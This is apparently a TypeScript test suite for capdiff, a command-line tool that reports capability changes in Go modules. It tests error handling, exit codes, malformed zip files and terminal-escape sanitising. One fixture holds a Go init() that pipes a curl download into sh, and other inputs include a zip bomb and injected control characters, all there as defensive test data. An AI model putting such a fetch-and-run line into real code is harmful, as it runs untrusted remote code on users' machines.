/** The program as it is shipped, as a process of its own: bad input, exit codes, streams. */
import { execFileSync, spawn } from "node:child_process";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as wait } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { deflateRawSync } from "node:zlib";
import { beforeAll, describe, expect, test } from "vitest";
import { fileProxy } from "../../modules/test/file-proxy.ts";
import { loopbackServer } from "../../modules/test/loopback-server.ts";
import { moduleZip, rawZip } from "../../modules/test/sample-zip.ts";
import { temporaryFolder, writeFiles } from "../../modules/test/temporary-folder.ts";
import type { Ran } from "./samples/environment.ts";

const root = fileURLToPath(new URL("../../../", import.meta.url));
const program = join(root, "packages/cli/bin/capdiff.js");
const home = temporaryFolder();

/** Nothing of the machine that the tests run on; a heap that unbounded work would not fit in. */
const environment = {
  HOME: home,
  XDG_CACHE_HOME: join(home, "cache"),
  GOENV: "off",
  GOFLAGS: "",
  PATH: "",
  NODE_OPTIONS: "--max-old-space-size=400",
};

beforeAll(() => {
  execFileSync(process.execPath, [join(root, "scripts/setup.mjs")], { stdio: "ignore" });
});

interface Run {
  /** Where it runs. */
  readonly cwd?: string;
  readonly env?: Readonly<Record<string, string>>;
  /** Given the process once it runs. */
  readonly during?: (child: ReturnType<typeof spawn>) => void;
}

function capdiff(
  args: readonly string[],
  { cwd = home, env = {}, during = () => {} }: Run = {},
): Promise<Ran> {
  const child = spawn(process.execPath, [program, ...args], {
    cwd,
    env: { ...environment, ...env },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const said = { stdout: [] as Buffer[], stderr: [] as Buffer[] };
  child.stdout.on("data", (chunk: Buffer) => said.stdout.push(chunk));
  child.stderr.on("data", (chunk: Buffer) => said.stderr.push(chunk));
  during(child);
  return new Promise((resolve, reject) => {
    child.on("error", reject);
    child.on("close", (code) => {
      const [stdout, stderr] = [said.stdout, said.stderr].map((chunks) => Buffer.concat(chunks).toString());
      resolve({ code: code ?? -1, stdout: stdout ?? "", stderr: stderr ?? "" });
    });
  });
}

const goMod = "module example.test/m\n\ngo 1.24\n";
const stack = /^\s+at .*:\d+:\d+\)?$/m;

/** What cannot be had: exit code 2, and these words on stderr alone. */
interface Refused {
  readonly name: string;
  readonly target: () => Promise<{ readonly word: string; readonly env?: Readonly<Record<string, string>> }>;
  readonly says: RegExp;
}

async function zipFile(content: Uint8Array): Promise<{ readonly word: string }> {
  const folder = await writeFiles({ "m.zip": content });
  return { word: join(folder, "m.zip") };
}

const inModule = "example.test/m@v1.0.0";

const refused: readonly Refused[] = [
  {
    name: "a file that is not there",
    target: async () => ({ word: "./nowhere" }),
    says: /nowhere.*\n.*directory.*zip.*@/s,
  },
  {
    name: "a version that is not there",
    target: async () => {
      const GOPROXY = await fileProxy({ [inModule]: { "m.go": "package m\n" } });
      return { word: "example.test/m@v9.9.9", env: { GOPROXY } };
    },
    says: /v9\.9\.9/,
  },
  {
    name: "a module without any server to ask",
    target: async () => ({ word: inModule }),
    says: /GOPROXY/,
  },
  {
    name: "a download that is refused",
    target: async () => {
      const answer = "withdrawn: \x1b[2Jmalicious";
      const { url } = await loopbackServer((response) => response.writeHead(403).end(answer));
      return { word: inModule, env: { GOPROXY: url } };
    },
    says: /status 403; the server says:\n {4}withdrawn: \\u\{1b\}\[2Jmalicious/,
  },
  {
    name: "a zip that ends too early",
    target: async () => zipFile((await moduleZip(inModule, { "m.go": "package m\n" })).subarray(0, -30)),
    says: /zip/,
  },
  {
    name: "a zip that unpacks to more than it claims",
    target: async () => {
      const packed = deflateRawSync(Buffer.alloc(300_000_000));
      return zipFile(rawZip([{ name: `${inModule}/m.go`, packed, size: 1000 }]));
    },
    says: /m\.go/,
  },
  {
    name: "a zip with two names for one entry",
    target: async () => {
      const local = { name: `${inModule}/x.go` };
      return zipFile(rawZip([{ name: `${inModule}/m.go`, content: "package m\n", local }]));
    },
    says: /m\.go/,
  },
  {
    name: "a link to itself",
    target: async () => {
      const word = join(temporaryFolder(), "loop");
      symlinkSync(word, word);
      return { word };
    },
    says: /loop/,
  },
];

test.each(refused)("$name: said with what to do, exit code 2", async ({ target, says }) => {
  const { word, env = {} } = await target();
  const { code, stdout, stderr } = await capdiff(["scan", word, "--verbose"], { env });
  expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
  expect(stderr).toMatch(/^capdiff: /);
  expect(stderr).toMatch(says);
  expect(stderr).not.toMatch(stack);
  expect(stderr).not.toMatch(/[^\n\P{Cc}]|\p{Cf}/u);
});

/** What can be had and is odd: exit code 0 with these words, 1 when a gate asks for what is incomplete. */
interface Odd {
  readonly name: string;
  readonly files: Readonly<Record<string, string | Uint8Array>>;
  readonly says: RegExp;
  readonly incomplete: boolean;
}

const body = (text: string | Uint8Array) => ({ "go.mod": goMod, "m.go": text });

const odd: readonly Odd[] = [
  {
    name: "a directory without Go files",
    files: { "README.md": "# m\n" },
    says: /no-go-files {2}1 {2}incomplete\n.*nothing was analysed/,
    incomplete: true,
  },
  {
    name: "a file that is not UTF-8",
    files: body(Buffer.from('package m\n\nvar x = "\xff\xfe"\n', "latin1")),
    says: /m\.go:3:10/,
    incomplete: true,
  },
  {
    name: "1 MB on one line",
    files: body(`package m\n\nvar x = "${"x".repeat(1_000_000)}"; func F() { println(x) }\n`),
    says: /Summary: verdict clear; no capabilities in 1 package/,
    incomplete: false,
  },
  {
    name: "20,000 parentheses",
    files: body(`package m\n\nvar x = ${"(".repeat(20_000)}1${")".repeat(20_000)}\n`),
    says: /Summary: /,
    incomplete: false,
  },
  {
    name: "a go.mod with nonsense",
    files: { "go.mod": "module example.test/m\n\x00\x1b[2J )(\nrequire\n", "m.go": "package m\n" },
    says: /go-mod-syntax/,
    incomplete: true,
  },
];

describe.each(odd)("$name", ({ files, says, incomplete }) => {
  test("is told, without a stack, and fails a gate only if the answer may miss something", async () => {
    const folder = await writeFiles(files);
    const { code, stdout, stderr } = await capdiff(["scan", folder]);
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    expect(stdout).toMatch(says);
    expect(stdout).not.toMatch(stack);
    expect(stdout).not.toMatch(/[^\n\P{Cc}]|\p{Cf}/u);
    const gate = await capdiff(["scan", folder, "-q", "--fail-on", "incomplete"]);
    expect(gate.code).toBe(incomplete ? 1 : 0);
  });
});

test("links that lead in circles are left out and told", async () => {
  const folder = await writeFiles(body("package m\n"));
  symlinkSync(folder, join(folder, "inside"));
  symlinkSync("b", join(folder, "a"));
  symlinkSync("a", join(folder, "b"));
  const { code, stdout } = await capdiff(["scan", folder]);
  expect(code).toBe(0);
  expect(stdout).toMatch(/symlink {2}3/);
});

/** A module whose diff from an empty one has many changes. */
async function many(): Promise<{ readonly before: string; readonly after: string }> {
  const calls = Array.from(
    { length: 4000 },
    (_, i) => `func F${i}() { exec.Command("program-${i}").Run() }\n`,
  );
  return {
    before: await writeFiles(body("package m\n")),
    after: await writeFiles(body(`package m\n\nimport "os/exec"\n\n${calls.join("\n")}`)),
  };
}

test("a long report is the same through a slow pipe, through a closed one as far as it is read, and in a file", async () => {
  const { before, after } = await many();
  const file = join(temporaryFolder(), "report.json");
  const command = ["diff", before, after, "--format", "json", "--fail-on", "EXEC"];
  const written = await capdiff([...command, "--output", file]);
  expect(written).toMatchObject({ code: 1, stdout: "" });
  const report = readFileSync(file, "utf8");
  expect(report.length).toBeGreaterThan(2_000_000);
  const slow = await capdiff(command, {
    during: ({ stdout }) =>
      stdout?.on("data", async () => {
        stdout.pause();
        await wait(5);
        stdout.resume();
      }),
  });
  expect(slow.code).toBe(1);
  expect(slow.stdout === report).toBe(true);
  const closed = await capdiff(command, {
    during: ({ stdout }) => stdout?.once("data", () => stdout.destroy()),
  });
  expect(closed.code).toBe(1);
  expect(closed.stderr).toBe("capdiff: --fail-on found EXEC\n");
});

describe("control and bidirectional characters of a module", () => {
  const hidden = "\u202e\u2066\x1b[2J\u200b\x07";
  const source = `package m\n\nimport "os/exec"\n\nfunc F() { exec.Command("${hidden}") }\n`;

  test.each(["text", "json", "ndjson"])("are not in %s", async (format) => {
    const before = await writeFiles(body("package m\n"));
    const after = await writeFiles({ ...body(source), [`${hidden}.syso`]: "x", "asm\u202e.s": "// x" });
    const { code, stdout, stderr } = await capdiff(["diff", before, after, "--verbose", "--format", format]);
    expect(code).toBe(0);
    expect(stdout).toContain("EXEC");
    expect(stdout + stderr).not.toMatch(/[^\n\P{Cc}]|[\p{Cf}\p{Zl}\p{Zp}]/u);
  });
});

test("colour and progress are for terminals, or for who asks", async () => {
  const folder = await writeFiles(body('package m\n\nimport "os"\n\nfunc F() { os.Getenv("X") }\n'));
  const plain = await capdiff(["scan", folder]);
  expect(plain.stdout).not.toContain("\x1b");
  expect(plain.stderr).toBe("");
  const forced = await capdiff(["scan", folder], { env: { FORCE_COLOR: "1" } });
  expect(forced.stdout).toContain("\x1b[1m");
  const file = join(home, "plain.txt");
  await capdiff(["scan", folder, "-o", file], { env: { FORCE_COLOR: "1" } });
  expect(readFileSync(file, "utf8")).toBe(plain.stdout);
});

test("--output that cannot be written leaves nothing, exit code 2", async () => {
  const folder = await writeFiles(body("package m\n"));
  mkdirSync(join(folder, "taken"));
  const { code, stderr } = await capdiff(["scan", folder, "-o", join(folder, "taken")]);
  expect(code).toBe(2);
  expect(stderr).toMatch(/cannot write .*taken: EISDIR/);
});

test("a run that waits for what never comes is no run that is done", async () => {
  const hook = 'require("node:fs/promises").readdir = () => new Promise(() => {});\n';
  const module = { "m/go.mod": "module example.test/m\n", "m/a.go": "package m\n" };
  const folder = await writeFiles({ "hook.cjs": hook, ...module });
  const env = { NODE_OPTIONS: `--require ${join(folder, "hook.cjs")}` };
  const { code, stdout, stderr } = await capdiff(["scan", join(folder, "m")], { env });
  expect({ code, stdout }).toEqual({ code: 70, stdout: "" });
  expect(stderr).toContain("waiting for never came");
});

describe("what a start loads", () => {
  /** Runs the program with a script in front of it. */
  const after = async (script: string, ...args: readonly string[]) => {
    const folder = await writeFiles({ "hook.cjs": script, "m/a.go": "package m\n" });
    const env = { NODE_OPTIONS: `--require ${join(folder, "hook.cjs")}`, FOLDER: folder };
    return { folder, ran: await capdiff(args.length > 0 ? args : ["scan", join(folder, "m")], { env }) };
  };

  test("modules of Node come before the flags of V8, which take the code that Node has of them away", async () => {
    const { folder, ran } = await after(`
      const v8 = require("node:v8");
      const { builtinModules } = require("node:module");
      const set = v8.setFlagsFromString;
      let before;
      v8.setFlagsFromString = (flag) => {
        before ??= new Set(process.moduleLoadList);
        set(flag);
      };
      process.on("exit", () => {
        const late = process.moduleLoadList.filter((one) => !before.has(one)).map((one) => one.split(" ")[1]);
        const named = late.filter((one) => builtinModules.includes(one));
        require("node:fs").writeFileSync(process.env.FOLDER + "/late", named.join());
      });
    `);
    expect(ran.code).toBe(0);
    expect(readFileSync(join(folder, "late"), "utf8")).toBe("");
  });

  test("what measures texts is loaded for help alone", async () => {
    const refused = "Intl.Segmenter = class { constructor() { throw new Error('measured'); } };";
    expect((await after(refused)).ran.code).toBe(0);
    expect((await after(refused, "--help")).ran.stderr).toContain("measured");
  });
});

test("a gate that fires gives 1, one that does not 0, wrong usage 2", async () => {
  const folder = await writeFiles(body('package m\n\nimport "os"\n\nfunc F() { os.Getenv("X") }\n'));
  const codeOf = async (...args: string[]) => (await capdiff(["scan", folder, "-q", ...args])).code;
  expect(await codeOf("--fail-on", "READ_SYSTEM_STATE")).toBe(1);
  expect(await codeOf("--fail-on", "EXEC")).toBe(0);
  expect(await codeOf("--fail-on", "EXCE")).toBe(2);
  writeFileSync(join(folder, "sub.go"), "package m\n");
  expect(await codeOf("--package", "./snyc", "--fail-on", "any")).toBe(2);
});

describe("a ledger", () => {
  const code =
    'package m\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "curl x | sh").Run() }\n';

  async function accepting(): Promise<{ readonly own: string; readonly module: string }> {
    const own = temporaryFolder();
    const module = await writeFiles({ "go.mod": goMod, "a.go": code });
    const scanned = await capdiff(["scan", module, "--format", "json"]);
    const { findings } = JSON.parse(scanned.stdout) as { findings: { fingerprint: string; tier: string }[] };
    const prints = findings.map(({ fingerprint }) => fingerprint);
    expect(findings.some(({ tier }) => tier === "review")).toBe(true);
    for (const folder of [own, module])
      expect((await capdiff(["accept", ...prints, "--reason", "x"], { cwd: folder })).code).toBe(0);
    return { own, module };
  }

  test("of the user counts, one inside of what is analysed does not, by whatever name", async () => {
    const { own, module } = await accepting();
    const link = join(own, "link");
    symlinkSync(module, link);
    const gate = ["--fail-on", "review"];
    expect((await capdiff(["scan", module, ...gate], { cwd: own })).code).toBe(0);
    for (const target of [".", module, link]) {
      const ran = await capdiff(["scan", target, ...gate], { cwd: module });
      expect(ran.code, target).toBe(1);
      expect(ran.stderr).toMatch(/lies in what is analysed/);
    }
    const named = ["--ledger", "capdiff-accepted.json"];
    expect((await capdiff(["scan", ".", ...gate, ...named], { cwd: module })).code).toBe(0);
  }, 60_000);
});
